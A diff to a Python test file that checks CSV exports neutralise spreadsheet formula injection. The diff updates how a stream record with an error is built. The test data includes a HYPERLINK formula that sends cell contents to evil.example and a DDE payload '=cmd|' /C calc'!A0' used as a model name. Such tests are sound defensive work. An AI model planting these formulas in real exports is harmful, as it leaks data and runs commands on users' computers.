@@ -17,6 +17,7 @@ from core.ledger import CallRecord, SessionLedger
 from core.measure import runs_to_csv
 from core.pricing import ModelPrice, PriceTable, load_price_table
 from core.streaming import StreamRecord
+from core.trace import CallTrace, Outcome
 from core.untrusted import code_span, csv_cell, csv_text, escape_markdown
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
@@ -71,7 +72,7 @@ def test_every_csv_export_neutralises_a_model_answer_or_name_that_is_a_formula()
     _no_live_formula(events_csv([event]))
     # measure runs: an endpoint's error message
     problem = CallProblem("unexpected", "=HYPERLINK(1)", "detail", "fix")
-    _no_live_formula(runs_to_csv([StreamRecord(prompt="p", error=problem, finish_reason="=stop")]))
+    _no_live_formula(runs_to_csv([StreamRecord("p", CallTrace("r", outcome=Outcome("failed", finish_reason="=stop", problem=problem)))]))
     # prices: model names are edited by the user, or come from a file
     table = PriceTable((ModelPrice("=cmd|' /C calc'!A0", "-x", 1.0, None, 2.0),), "2026-11", "test")
     exported = table.to_csv()
